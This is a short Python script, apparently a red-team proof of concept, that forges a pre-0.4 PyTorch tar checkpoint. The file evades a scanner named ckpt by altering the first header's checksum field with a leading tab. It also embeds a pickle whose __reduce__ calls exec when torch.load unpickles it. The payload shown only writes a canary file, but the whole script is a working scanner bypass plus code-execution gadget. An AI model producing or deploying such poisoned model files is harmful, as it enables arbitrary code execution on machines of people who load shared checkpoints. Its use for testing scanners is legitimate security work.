"""A pre-0.4 torch tar whose first header's checksum field starts with a tab (or '+'): Python's
tarfile (so torch.load's legacy tar loader) accepts it, ckpt's tar sniff does not, so ckpt never
scans the tar's `storages` pickle, which torch.load unpickles. Payload: writes a canary file."""
import io
import pickle
import sys
import tarfile

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/tar_canary"
out = sys.argv[2] if len(sys.argv) > 2 else "pytorch_model.bin"
lead = (sys.argv[3] if len(sys.argv) > 3 else "\t").encode()

class Payload:
    def __reduce__(self):
        return (exec, (f"open({canary!r}, 'w').write('ran')",))

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
    data = pickle.dumps(Payload(), protocol=2)
    info = tarfile.TarInfo("storages")
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))
raw = bytearray(buf.getvalue())
chksum = int(raw[148:154].decode(), 8)
raw[148:156] = lead + b"%06o" % chksum + b"\0" * (7 - len(lead) - 6 + 1)
assert len(raw[148:156]) == 8
open(out, "wb").write(raw)
print("wrote", out)
